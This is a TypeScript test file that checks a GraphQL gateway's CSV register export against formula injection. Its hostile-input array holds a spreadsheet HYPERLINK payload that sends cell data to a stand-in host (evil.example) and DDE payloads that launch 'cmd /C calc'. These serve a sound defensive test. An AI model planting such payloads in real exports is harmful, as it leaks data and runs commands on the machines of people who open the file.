import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Role } from '../../src/auth/roles';
import { Incident } from '../../src/incidents/incident.entity';
import { sha256Hex } from '../../src/lib/canonical-json';
import { Organization } from '../../src/organizations/organization.entity';
import { sirenProblem } from '../../src/organizations/siren';
import {
  CreateExposureDocument,
  CreateIncidentDocument,
  CreateOrganizationDocument,
  type CreateOrganizationInput,
} from '../generated/graphql';
import { dialect, startGateway, type TestGateway } from '../support/app';

/** A valid SIREN (Luhn) starting with `prefix`. */
function siren(prefix: string): string {
  for (let d = 0; d <= 9; d++) if (sirenProblem(`${prefix}${d}`) === null) return `${prefix}${d}`;
  throw new Error('unreachable');
}

const organization = (legalName: string, sirenNumber: string, roles: ('CONTROLLER' | 'PROCESSOR')[]): CreateOrganizationInput => ({
  roles,
  legalName,
  siren: sirenNumber,
  vatNumber: null,
  address: { street: '1 rue Test', postalCode: '75001', city: 'Paris', country: 'FR' },
  contact: { civility: 'MADAME', firstName: 'Ana', lastName: 'Contact', email: 'contact@test.example' },
  regimes: [{ regime: 'DORA', inScope: true, rationale: 'Organisme complémentaire: entité financière.' }],
});

/** Cells of a `;` CSV line as a spreadsheet reads them (RFC 4180 quoting). */
function parseLine(line: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let value = '';
      i++;
      for (;;) {
        if (line[i] === '"' && line[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (line[i] === '"') break;
        else value += line[i++];
      }
      cells.push(value);
      i += 2;
    } else {
      const end = line.indexOf(';', i) === -1 ? line.length : line.indexOf(';', i);
      cells.push(line.slice(i, end));
      i = end + 1;
    }
  }
  return cells;
}

/**
 * A processor's incident titles and organisations' names starting like formulas reach a
 * controller's spreadsheet through `/register.csv`: each such cell must come out as text, per
 * OWASP's CSV-injection rules (a leading single quote, the cell quoted).
 */
describe(`register CSV formula injection on ${dialect}`, () => {
  let gw: TestGateway;
  const hostile = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
    '+33 1 23 45 67 89',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
  ];
  const controllers: { id: string; name: string; title: string }[] = [];

  beforeAll(async () => {
    gw = await startGateway();
    const em = gw.app.orm.em.fork();
    const admin = await gw.token('01900000-0000-7000-8000-0000000000ad', [Role.ADMIN]);
    const p = await gw.gql(CreateOrganizationDocument, { input: organization('Opérateur', siren('91230002'), ['PROCESSOR']) }, admin);
    const processor = await gw.token(p.data!.createOrganization.id, [Role.PROCESSOR_SECURITY]);
    for (const [i, value] of hostile.entries()) {
      const name = `${value} mutuelle ${i}`;
      const title = `${value} fuite ${i}`;
      // Names and titles with a tab or a CR may be refused at input: those are written as rows
      // stored before that check would be, since the CSV must be safe whatever the database holds.
      const printable = !/^[\t\r]/.test(value);
      const c = await gw.gql(
        CreateOrganizationDocument,
        { input: organization(printable ? name : `Mutuelle ${i}`, siren(`9123010${i}`), ['CONTROLLER']) },
        admin,
      );
      const controllerId = c.data!.createOrganization.id;
      const incident = await gw.gql(CreateIncidentDocument, { input: { title: printable ? title : `Fuite ${i}` } }, processor);
      const incidentId = incident.data!.createIncident.id;
      const exposure = await gw.gql(
        CreateExposureDocument,
        { input: { incidentId, controllerId, processorAlertedAt: '2024-02-01T13:00:00Z' } },
        admin,
      );
      expect(exposure.errors).toBeUndefined();
      if (!printable) {
        await em.nativeUpdate(Organization, { id: controllerId }, { legalName: name });
        await em.nativeUpdate(Incident, { id: incidentId }, { title });
      }
      controllers.push({ id: controllerId, name, title });
    }
  });
  afterAll(() => gw.close());

  it('neutralises every cell starting with =, +, -, @, tab or CR, in the bytes whose sha256 is sent', async () => {
    for (const { id, name, title } of controllers) {
      const token = await gw.token(id, [Role.CONTROLLER_DPO]);
      const response = await fetch(`${gw.baseUrl}/register.csv`, { headers: { authorization: `Bearer ${token}` } });
      expect(response.status).toBe(200);
      const bytes = Buffer.from(await response.arrayBuffer());
      expect(response.headers.get('x-content-sha256')).toBe(sha256Hex(bytes));
      const text = bytes.toString('utf8').replace(/^\uFEFF/, '');
      // Records end with CRLF; a CR inside a cell is inside quotes, so split on CRLF outside them.
      const [header, row] = text.match(/(?:"(?:[^"]|"")*"|[^"\r\n])*\r\n/g)!.map((line) => parseLine(line.slice(0, -2)));
      if (!header || !row) throw new Error(`expected a header and a row: ${text}`);
      const cell = (column: string) => row[header.indexOf(column)];
      expect(cell('Organisme')).toBe(`'${name}`);
      expect(cell('Violation')).toBe(`'${title}`);
      // Raw: the hostile text never opens a cell, quoted or not.
      for (const value of [name, title]) {
        expect(text).toContain(`"'${value.replace(/"/g, '""')}"`);
        expect(text).not.toContain(`;${value}`);
        expect(text).not.toContain(`;"${value.replace(/"/g, '""')}`);
      }
    }
  });
});
